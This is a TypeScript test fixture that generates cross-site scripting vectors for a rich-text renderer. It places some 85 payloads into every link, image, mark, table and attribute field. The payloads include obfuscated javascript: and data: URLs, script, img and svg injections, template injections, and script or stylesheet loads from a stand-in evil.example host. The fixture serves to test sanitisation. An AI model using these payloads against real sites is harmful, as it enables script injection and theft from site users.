/** Cross-site scripting as it is tried: addresses, mark-up and attributes, each in every place where a text can hold it. */

const schemes = [
  'javascript:alert(1)',
  'JAVASCRIPT:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\r\nscript:alert(1)',
  'java\0script:alert(1)',
  '\u0001javascript:alert(1)',
  '\u00a0javascript:alert(1)',
  '\u2028javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  '\u200bjavascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#106;avascript:alert(1)',
  'javascript%3Aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>',
  'javascript://shop.example/%0aalert(1)',
  'javascript:void(0)?a=https://shop.example',
  'feed:javascript:alert(1)',
  'view-source:javascript:alert(1)',
  'jar:https://evil.example!/x',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'mocha:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'data:,alert(1)',
  'blob:https://shop.example/1',
  'filesystem:https://shop.example/temporary/x',
  'file:///etc/passwd',
  'about:blank',
  'ws://evil.example',
  'intent://evil.example#Intent;end',
  '//evil.example',
  '///evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  '/\t/evil.example',
  '/\u0000/evil.example',
  'https://shop.example@evil.example/',
  'https:evil.example',
  'http:\\\\evil.example',
  'mailto:"><script>alert(1)</script>@x.y',
  'tel:javascript:alert(1)',
  'tel:"><img src=x onerror=alert(1)>',
  '#"><img src=x onerror=alert(1)>',
  '/"><script>alert(1)</script>',
  "/' onmouseover='alert(1)",
]

const markup = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><mtext></table><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<style>@import "//evil.example/x.css";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '</textarea><script>alert(1)</script>',
  '</p></div></section><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '\u202e<script>alert(1)</script>',
]

export const payloads = [...schemes, ...markup]

type Node = { [field: string]: unknown }
const doc = (...content: Node[]): Node => ({ type: 'doc', content })
const words = (text: unknown, ...marks: Node[]): Node => ({ type: 'text', text, marks })
const p = (...content: Node[]): Node => ({ type: 'paragraph', content })

/** Attributes that must never reach an element. */
const poison = (payload: string): Node => ({
  style: payload,
  class: payload,
  className: payload,
  id: payload,
  onclick: payload,
  onClick: payload,
  onError: payload,
  children: payload,
  dangerouslySetInnerHTML: { __html: payload },
  ref: payload,
  key: payload,
  is: payload,
  [payload]: payload,
})

const places: ((payload: string) => Node)[] = [
  (payload) => doc(p(words(payload))),
  (payload) => doc(p(words('Klick', { type: 'link', attrs: { href: payload, linktype: 'url' } }))),
  (payload) =>
    doc(
      p(
        words('Klick', {
          type: 'link',
          attrs: { href: '/de', anchor: payload, target: payload, custom: { onclick: payload } },
        }),
      ),
    ),
  (payload) =>
    doc(
      p(
        words('Klick', {
          type: 'link',
          attrs: { linktype: 'story', href: payload, story: { url: payload, full_slug: payload } },
        }),
      ),
    ),
  (payload) => doc(p(words('Klick', { type: 'link', attrs: { linktype: 'email', href: payload } }))),
  (payload) =>
    doc(p({ type: 'image', attrs: { src: payload, alt: payload, title: payload, ...poison(payload) } })),
  (payload) =>
    doc({
      type: 'image',
      attrs: {
        src: '/api/assets/editorial/gold.jpg',
        alt: payload,
        copyright: payload,
        focus: payload,
        width: payload,
      },
    }),
  (payload) =>
    doc(
      p(
        words(
          'Text',
          { type: 'styled', attrs: poison(payload) },
          { type: 'textStyle', attrs: { color: payload } },
        ),
      ),
    ),
  (payload) =>
    doc(
      p(
        words(
          'Text',
          { type: 'highlight', attrs: { color: payload } },
          { type: 'anchor', attrs: { id: payload } },
          { type: 'lang', attrs: { lang: payload } },
        ),
      ),
    ),
  (payload) =>
    doc({ type: 'heading', attrs: { level: payload, ...poison(payload) }, content: [words(payload)] }),
  (payload) => doc({ type: payload, attrs: poison(payload), content: [words(payload)] }),
  (payload) =>
    doc({
      type: 'paragraph',
      attrs: { textAlign: payload, ...poison(payload) },
      content: [words(payload, { type: payload, attrs: poison(payload) })],
    }),
  (payload) =>
    doc({ type: 'code_block', attrs: { class: payload, language: payload }, content: [words(payload)] }),
  (payload) =>
    doc({
      type: 'table',
      content: [
        {
          type: 'tableRow',
          content: [
            {
              type: 'tableCell',
              attrs: { colspan: payload, backgroundColor: payload, ...poison(payload) },
              content: [p(words(payload))],
            },
          ],
        },
      ],
    }),
  (payload) =>
    doc({
      type: 'ordered_list',
      attrs: { order: payload, ...poison(payload) },
      content: [{ type: 'list_item', content: [p(words(payload))] }],
    }),
  (payload) =>
    doc({
      type: 'blok',
      attrs: {
        body: [
          { component: payload, _uid: payload },
          { component: 'button', _uid: payload, label: payload, link: { url: payload } },
        ],
      },
    }),
  (payload) => doc(p({ type: 'emoji', attrs: { emoji: payload, fallbackImage: payload, name: payload } })),
  (payload) =>
    doc({
      type: 'paragraph',
      content: [
        { type: 'text', text: { toString: payload } },
        { type: 'text', text: payload, marks: { 0: { type: 'link', attrs: { href: payload } } } },
      ],
    }),
]

/** Every payload in every place of a rich-text document. */
export const vectors: Node[] = places.flatMap((place) => payloads.map(place))
